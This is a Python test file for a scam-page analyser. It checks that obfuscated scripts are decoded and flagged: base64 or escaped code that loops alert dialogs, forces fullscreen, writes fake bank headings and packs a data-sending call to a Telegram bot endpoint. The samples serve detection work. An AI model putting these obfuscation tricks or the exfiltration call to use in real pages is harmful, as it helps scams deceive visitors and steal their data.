"""What packed scripts, and scripts with their letters as numbers, do and write is seen as if they stood open."""

from base64 import b64encode
from urllib.parse import quote

import pytest

from scamtriage.parse.html.scripts.written_markup import find_written_markup
from tests.parse.html.scripted import read

LOOP = "setInterval(function(){alert('call us')},100)"

NUMBERED = "".join(f"\\x{ord(letter):02x}" for letter in "requestFullscreen")

PACKED = {
    "base64": (f"eval(atob('{b64encode(LOOP.encode()).decode()}'))", "dialog-loop"),
    "percent signs": (f"eval(unescape('{quote(LOOP)}'))", "dialog-loop"),
    "a constructor": (f"new Function(atob('{b64encode(LOOP.encode()).decode()}'))()", "dialog-loop"),
    "numbers": (f"document.documentElement['{NUMBERED}']()", "fullscreen"),
    "numbers in a list": (f"var _0x1f=['{NUMBERED}'];document.body[_0x1f[0]]()", "fullscreen"),
    "numbers of UTF-16": (f"document.body['{NUMBERED.replace(chr(92) + 'x', chr(92) + 'u00')}']()", "fullscreen"),
}


@pytest.mark.parametrize("name", PACKED)
def test_what_a_packed_script_does_to_the_visitor_is_seen(name: str) -> None:
    script, behaviour = PACKED[name]
    assert read(script).behaviours == (behaviour,)


def test_a_packed_script_shows_its_exfiltration_and_says_nothing_that_is_seen() -> None:
    code = "var end='</script><h1>no</h1>';fetch('https://api.telegram.org/bot1234567890:" + "A" * 35 + "/sendMessage')"
    facts = read(f"eval(atob('{b64encode(code.encode()).decode()}'))")
    assert facts.exfil == ("telegram-bot",)
    assert facts.text == read("").text and facts.headings == ()


@pytest.mark.parametrize("few", ["\\u002F", "\\x2f", "\\u0026", "\\u0041-\\u005a"])
def test_signs_that_data_write_as_numbers_make_no_second_script_of_it(few: str) -> None:
    assert find_written_markup([f"window.__STATE__={{a:'{few * 50}'}}"], "").run == ()


def test_what_a_packed_script_writes_stands_in_the_page_once() -> None:
    code = "document.write('<a href=https://s.test/>Our shop</a>')"
    packed = f"document.write('<p>Welcome</p>');eval(atob('{b64encode(code.encode()).decode()}'))"
    assert read(packed).link_count == read(code).link_count == read("").link_count + 1


def test_what_a_script_with_its_letters_as_numbers_writes_is_read_as_if_they_were_letters() -> None:
    write = "".join(f"\\x{ord(letter):02x}" for letter in "writeln")
    assert read(f"document['{write}']('<h1>Bank of Nowhere</h1>')").headings == ("Bank of Nowhere",)


def test_a_text_that_stands_between_quotes_is_no_packed_script() -> None:
    assert find_written_markup(["setTimeout('alert(1)',10);eval('alert('+'2)')"], "").run == ("alert(2)",)
